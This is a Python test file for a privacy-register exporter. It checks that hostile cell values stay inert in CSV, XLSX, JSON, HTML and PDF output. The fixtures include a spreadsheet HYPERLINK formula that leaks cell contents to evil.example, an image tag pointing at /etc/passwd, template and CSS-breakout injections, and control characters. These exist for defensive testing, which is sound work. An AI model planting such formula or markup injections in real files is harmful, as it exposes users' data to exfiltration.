"""A register whose cells hold formulas, markup, file and web URLs, template syntax, control
characters and 10,000-character texts exports safely in every format."""

from __future__ import annotations

import csv
import html.parser
import json
import re
import subprocess

import jsonschema
import pypdf
import pytest
from openpyxl import load_workbook

import ropa
from ropa.outputs.formats import record_schema
from tests.conftest import AS_OF, DATA

HOSTILE = DATA / "record" / "hostile"
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
LONG_WORD_AS = 10_000 - len("https://evil.example/")


@pytest.fixture(scope="module")
def hostile():
    return ropa.load_register(HOSTILE)


@pytest.fixture(scope="module")
def written(hostile, tmp_path_factory):
    folder = tmp_path_factory.mktemp("hostile")
    return {fmt: ropa.write_record(hostile, folder / f"record.{fmt}", format=fmt, date=AS_OF)
            for fmt in ("csv", "xlsx", "json", "html", "pdf")}


def test_the_register_really_is_hostile(hostile):
    acts = hostile.activities.set_index("activity_id")
    assert acts.at["H1", "name"] == '<img src="file:///etc/passwd">'
    assert acts.at["H2", "name"].startswith("=HYPERLINK(")
    assert len(acts.at["H2", "purpose_description"]) == 10_000
    assert len(acts.at["H2", "legitimate_interest"]) == 10_000 and " " not in acts.at["H2", "legitimate_interest"]
    assert "\x07" in acts.at["H2", "owner"]
    assert hostile.organisation["controller"]["name"].startswith("=HYPERLINK(")


def test_csv_cells_never_start_a_formula(written):
    cells = []
    for path in (written["csv"], written["csv"].with_name("record-processor.csv")):
        with path.open(encoding="utf-8-sig", newline="") as fh:
            cells += [cell for row in csv.reader(fh) for cell in row]
    assert cells
    assert not [c for c in cells if c.startswith(FORMULA_START)]
    assert "'=HYPERLINK(\"http://evil.example\",\"click\")" in cells
    assert any(c.startswith("'=1+1; @SUM(A1)") for c in cells)
    assert '<img src="file:///etc/passwd">' in cells  # text, as written: a CSV runs nothing
    assert max(len(c) for c in cells) >= 10_000


def test_xlsx_has_no_formula_and_keeps_long_text(written):
    wb = load_workbook(written["xlsx"])
    values = []
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{ws.title}!{cell.coordinate} is a formula"
                if isinstance(cell.value, str):
                    values.append(cell.value)
    assert not [v for v in values if v.startswith(FORMULA_START)]
    assert "'=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Click me\"), <img src=\"file:///etc/passwd\"> " \
           "Street 1, @SUM(1+1), +31 6 1234 5678" in values
    assert not [v for v in values if re.search(r"[\x00-\x08\x0b\x0c\x0e-\x1f]", v)]
    long = [v for v in values if len(v) >= 10_000]
    assert len(long) >= 3 and max(len(v) for v in values) <= 32_767
    assert any(("https://evil.example/" + "a" * LONG_WORD_AS) in v for v in long)


def test_json_keeps_the_text_as_data(written):
    data = json.loads(written["json"].read_text(encoding="utf-8"))
    jsonschema.validate(data, record_schema(), cls=jsonschema.Draft202012Validator)
    names = {a["activity_id"]: a["name"] for a in data["controller_record"]}
    assert names["H1"] == '<img src="file:///etc/passwd">'
    assert data["organisation"]["supervisory_authority"] == "{{ 7*7 }} {% raw %}"


class _Elements(html.parser.HTMLParser):
    def __init__(self):
        super().__init__()
        self.tags: list[tuple[str, dict]] = []
        self.data: list[str] = []

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, dict(attrs)))

    def handle_data(self, data):
        self.data.append(data)


def test_html_escapes_everything(written):
    text = written["html"].read_text(encoding="utf-8")
    page = _Elements()
    page.feed(text)
    tags = [t for t, _ in page.tags]
    assert not {"img", "script", "iframe", "link", "a", "b"} & set(tags)
    assert tags.count("h1") == 1  # the record's own title; the DPO's "<h1>injected</h1>" is text
    assert tags.count("style") == 1 and tags.count("table") == 3 + 3  # record tables + header blocks
    assert not [a for _, attrs in page.tags for k, a in attrs.items() if k in ("src", "href") or "url(" in (a or "")]
    body = "".join(page.data)
    assert '<img src="file:///etc/passwd">' in body
    assert "{{ 7*7 }}" in body and "</style><style>body{display:none}</style>" in body
    assert "\x07" not in text and "\x1b" not in text
    assert ("https://evil.example/" + "a" * 150) in body


def test_pdf_fetches_nothing_escapes_and_wraps(written, hostile):
    reader = pypdf.PdfReader(written["pdf"])
    for page in reader.pages:
        xobjects = page["/Resources"].get("/XObject", {})
        assert not [x for x in xobjects.values() if x.get_object().get("/Subtype") == "/Image"]
    raw = subprocess.run(["pdftotext", "-raw", str(written["pdf"]), "-"], capture_output=True,
                         check=True).stdout.decode()
    flat = " ".join(raw.split())
    squashed = "".join(raw.split())
    assert '<img src="file:///etc/passwd">' in flat
    assert "{{ 7*7 }}" in flat and "49" not in flat.replace("2026", "")
    assert '=HYPERLINK("http://evil.example","click")' in squashed
    # both 10,000-character words are there in full, split only by line and page breaks
    runs = re.findall(r"a{20,}", squashed)
    assert sum(map(len, runs)) == 2 * LONG_WORD_AS
    prose = hostile.activities.set_index("activity_id").at["H2", "purpose_description"]
    assert "".join(prose[-80:].split()) in squashed
    # nothing runs off the page: every word inside the page, within the margins
    boxes = subprocess.run(["pdftotext", "-bbox", str(written["pdf"]), "-"], capture_output=True,
                           check=True).stdout.decode()
    width = float(re.search(r'page width="([\d.]+)"', boxes).group(1))
    x_max = max(float(v) for v in re.findall(r'xMax="([\d.]+)"', boxes))
    x_min = min(float(v) for v in re.findall(r'xMin="([\d.]+)"', boxes))
    assert x_min >= 10 / 25.4 * 72 - 1 and x_max <= width - 10 / 25.4 * 72 + 1
    pages = raw.split("\f")[:-1]
    assert len(pages) > 10
    assert all("Record date 2026-11-25" in p for p in pages)
